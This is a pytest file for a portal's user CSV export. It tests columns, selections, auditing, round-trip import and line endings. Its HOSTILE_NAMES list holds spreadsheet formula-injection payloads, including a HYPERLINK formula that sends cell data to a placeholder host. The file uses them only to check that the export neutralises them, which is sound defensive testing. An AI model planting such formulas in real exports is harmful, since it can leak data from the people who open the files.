"""CSV export: columns, states, selections, formula neutralisation, round trip, audit."""
import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa

from portal.extensions import db
from portal.models import AuditEvent
from portal.models import utcnow
from portal.services import csv_export
from portal.services import csv_check
from portal.services import csv_import
from portal.services import users
from tests.builders import csv_bytes
from tests.builders import make_account
from tests.builders import make_group
from tests.builders import make_user


def read(export) -> list[list[str]]:
    data = b"".join(export.chunks)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_export_has_every_column_and_every_live_user(account):
    ana = make_user(account, name="Ana Lima", email="ana@example.com", password=None)
    bo = make_user(account, name="Bo Berg", email="bo@example.com")
    make_group(account, "Team A", members=[ana, bo])
    make_group(account, "Team B", members=[ana])
    ana.user.phone = "+442079460958"
    db.session.commit()
    export = csv_export.export_users(account.admin)
    rows = read(export)
    assert rows[0] == ["Full Name", "Email", "Phone", "Groups", "State", "Last seen", "Created"]
    by_email = {row[1]: row for row in rows[1:]}
    assert export.count == len(rows) - 1 == 3
    name, _email, phone, groups, state, seen, created = by_email["ana@example.com"]
    assert (name, phone, state, seen) == ("Ana Lima", "'+442079460958", "invited", "")
    assert sorted(groups.split("; ")) == ["Team A", "Team B"]
    assert created == utcnow().strftime("%Y-%m-%d %H:%M") or created[:10] == str(date.today())
    assert by_email["bo@example.com"][4] == "active"


def test_the_file_name_carries_the_account_and_the_date(app):
    name = csv_export.filename_for('Café "Zürich"\r\n/../x', date(2026, 3, 1))
    assert name == "users-cafe-zurich-x-2026-03-01.csv"


def test_deleted_users_come_only_when_asked_and_only_from_this_account(account):
    gone = make_user(account, email="gone@example.com")
    gone.deleted_at = utcnow()
    other = make_account()
    make_user(other, email="other@example.com")
    db.session.commit()
    emails = [row[1] for row in read(csv_export.export_users(account.admin))[1:]]
    assert "gone@example.com" not in emails and "other@example.com" not in emails
    rows = read(csv_export.export_users(account.admin, include_deleted=True))[1:]
    assert {row[1]: row[4] for row in rows}["gone@example.com"] == "deleted"
    assert "other@example.com" not in [row[1] for row in rows]


def test_a_selection_exports_only_its_users_of_this_account(account):
    ana = make_user(account, email="ana@example.com")
    make_user(account, email="bo@example.com")
    foreign = make_user(make_account(), email="foreign@example.com")
    selection = users.Selection(ids=[ana.id, foreign.id])
    rows = read(csv_export.export_users(account.admin, selection))
    assert [row[1] for row in rows[1:]] == ["ana@example.com"]
    matching = users.Selection(all_matching=True, filter=users.UserFilter(q="bo@"))
    assert [row[1] for row in read(csv_export.export_users(account.admin, matching))[1:]] == [
        "bo@example.com"]


def test_every_export_is_audited_once(account):
    csv_export.export_users(account.admin)
    csv_export.export_users(account.admin, include_deleted=True)
    events = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "users.exported")).all()
    assert [(e.details["include_deleted"], e.details["count"]) for e in events] == [
        (False, 1), (True, 1)]


HOSTILE_NAMES = ["=1+2", "+1 Ana", "-1 Ana", "@SUM(A1)", "\tTab", "\rCR", "|pipe", "%0A",
                 " =1+2", "a,=1+2", 'x";=1+2', '=HYPERLINK("http://x/?"&A1)', "'=quoted"]


def test_formula_cells_are_quoted_and_neutralised_and_read_back_unchanged(account):
    made = [make_user(account, name=f"N{n}", email=f"n{n}@example.com")
            for n in range(len(HOSTILE_NAMES))]
    for membership, name in zip(made, HOSTILE_NAMES):
        # Stored as a CSV or an old form could have left them (clean_name collapses spaces).
        membership.user.name = name
    make_user(account, name="Plain", email="=cmd@example.com")
    group = make_group(account, "=Group", members=made[:1])
    db.session.commit()
    raw = b"".join(csv_export.export_users(account.admin).chunks).decode("utf-8-sig")
    assert '"\'=1+2"' in raw and "\"'\t" not in raw.replace("\"'\tTab", "")
    rows = list(csv.reader(io.StringIO(raw, newline="")))[1:]
    names = {row[1]: row[0] for row in rows}
    for n, name in enumerate(HOSTILE_NAMES):
        assert names[f"n{n}@example.com"] == "'" + name
    assert "'=cmd@example.com" in names
    assert {row[3] for row in rows} >= {"'=Group"}
    assert group.name == "=Group"
    # Back through the import preview: the original text, not the neutralised one.
    preview = csv_check.preview_csv(make_account().admin, raw.encode())
    read_back = {row.email: row for row in preview.rows}
    for n, name in enumerate(HOSTILE_NAMES):
        assert read_back[f"n{n}@example.com"].name == " ".join(name.split()), name
    assert read_back["=cmd@example.com"].status == "new"  # found again, told as a new one
    assert read_back["n0@example.com"].groups == ("=Group",)


def test_an_export_imports_into_another_account_unchanged(account):
    make_group(account, "Team A; B")  # a ";" inside a name cannot survive the Groups cell
    csv_import.import_csv(account.admin, csv_bytes([
        ("Zoë Ørsted", "zoe@example.com", "Team A; Team B"),
        ("Müller, Ana", "ana@example.com", ""),
    ], header=("Full Name", "Email", "Groups")))
    data = b"".join(csv_export.export_users(account.admin).chunks)
    target = make_account()
    result = csv_import.import_csv(target.admin, data)
    assert result.imported == 3
    again = read(csv_export.export_users(target.admin))[1:]
    original = read(csv_export.export_users(account.admin))[1:]

    def key(rows):
        return sorted((r[0], r[1], r[2], tuple(sorted(r[3].split("; ")))) for r in rows
                      if r[1] != target.admin.user.email)

    assert key(again) == key(original)


@pytest.mark.database("postgresql")  # SQLite's export neutralises in Python (tests above)
def test_postgresql_neutralises_formula_cells_exactly_as_python_does(app):
    """PostgreSQL writes the file's lines itself: csv_export.pg_neutralise must give exactly
    csv_cells.neutralise's answer, over every short string of the characters that matter
    (Python's whitespace included: PostgreSQL's own \\s depends on the locale)."""
    import itertools

    from portal.services.csv_cells import neutralise

    assert db.engine.dialect.name == "postgresql"
    spaces = [chr(c) for c in range(0x3001) if chr(c).isspace()]
    alphabet = ["a", "'", "=", "+", "-", "@", "|", "%", ",", ";", '"', "\t", "\r", "\n", " ",
                "\u00a0", "\u2003", "\x1f"]
    values = ["".join(p) for n in range(1, 4) for p in itertools.product(alphabet, repeat=n)]
    values += [space + "=x" for space in spaces] + ["a;" + space + "+1" for space in spaces]
    values += ["''" + space + "@" for space in spaces] + ["", "Ana Lima", "ana@example.com"]
    # The very expressions the export uses, on each value.
    cell = sa.column("v", sa.Text)
    values_table = sa.func.unnest(sa.cast(sa.bindparam("values", values), sa.ARRAY(sa.Text)))
    rows = db.session.execute(
        sa.select(cell, csv_export.pg_neutralise(cell))
        .select_from(values_table.table_valued("v").render_derived(with_types=False))
    ).all()
    wrong = [(value, got) for value, got in rows if got != neutralise(value)]
    assert len(values) > 6000 and not wrong, wrong[:10]


def test_every_line_ends_in_crlf_on_either_database_a_line_break_in_a_value_stays(account):
    """SQLite's rows go through csv; PostgreSQL writes each line with its CRLF."""
    odd = make_user(account, name="Odd", email="odd@example.com")
    odd.user.name = 'Two\nlines 12:30"\n'  # no form stores this; old data might
    make_group(account, "Team A", members=[odd])
    db.session.commit()
    raw = b"".join(csv_export.export_users(account.admin).chunks)
    assert raw.count(b"\r\n") == 3  # the header, the admin, Odd
    assert b'"Two\nlines 12:30""\n"' in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [account.admin.user.name, 'Two\nlines 12:30"\n']
    assert rows[2][3] == "Team A"
